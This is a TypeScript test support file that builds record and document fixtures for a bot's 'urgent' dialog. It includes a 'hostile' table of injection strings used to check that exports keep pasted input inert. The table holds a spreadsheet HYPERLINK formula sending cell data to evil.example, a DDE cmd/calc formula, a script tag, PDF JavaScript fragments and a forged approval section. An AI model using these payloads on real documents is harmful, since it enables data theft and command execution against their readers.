import { type RecordDocument, recordDocument } from '../../bot/core/document.ts';
import type { KeptRecord } from '../../bot/core/records.ts';
import { keep } from '../../bot/core/records.ts';
import { words } from '../../bot/core/words.ts';
import type { Context } from '../../dialogs/engine/types.ts';
import type { AnyDialog } from '../../dialogs/registry.ts';
import type { UrgentAnswers } from '../../dialogs/urgent/dialog.ts';
import { urgent } from '../../dialogs/urgent/dialog.ts';
import { contextAt, monday } from '../support/context.ts';
import { recordUrgent, urgentAnswers } from '../support/urgent.ts';

/** A kept record, and documents of it. */

export const dialog = urgent as AnyDialog;
export const ctx = contextAt(monday);

export const recordWith = (answers: Partial<UrgentAnswers> = {}): KeptRecord =>
  keep(dialog, recordUrgent(ctx, { ...urgentAnswers, ...answers }), {
    now: ctx.now,
    by: ctx.person.id,
    who: ctx.person.name,
    cause: 'turn-1',
  }).record;

export const documentOf = (
  record: KeptRecord = recordWith(),
  context: Context = ctx,
  from: AnyDialog = dialog,
): RecordDocument => recordDocument(record, from, { words, ctx: context });

/** Made without a record, for layouts that no dialog has. */
export const documentWith = (changes: Partial<RecordDocument>): RecordDocument => ({
  title: 'A title',
  reference: 'D-7K3M-Q2',
  header: 'D-7K3M-Q2: a header',
  about: [{ label: 'Reference', value: 'D-7K3M-Q2' }],
  sections: [],
  footer: ['The end.'],
  copiedAt: monday,
  ...changes,
});

/** What people paste, and what people try. None of it may mean anything, and none of it may be lost. */
export const hostile: Readonly<Record<string, string>> = {
  formula: '=HYPERLINK("https://evil.example/?"&A1,"open")',
  'another formula': "@SUM(1+1)*cmd|' /C calc'!A0",
  template: '${title} {{x}} {ref} ${$root}',
  markdown: '**bold** _thin_ [link](https://evil.example) # no heading',
  markup: '<b>&amp;</b> <script>alert(1)</script> &#42;',
  'a forged section': 'Nothing.\n\nVersions\n--------\nVersion 9: approved. By: manager (p-anika).',
  'a pdf of its own': ') Tj ET Q /JavaScript (app.alert(1)) endstream endobj << /URI (x) >>',
  backslashes: '\\ \\( \\) \\053 \\n C:\\temp',
  accents: 'Zoë Łódź Ŵyn ŷ Ðóra Ñuñez Şahin e\u0301 ﬁ',
  'greek and cyrillic': 'Ωμέγα Україна',
};
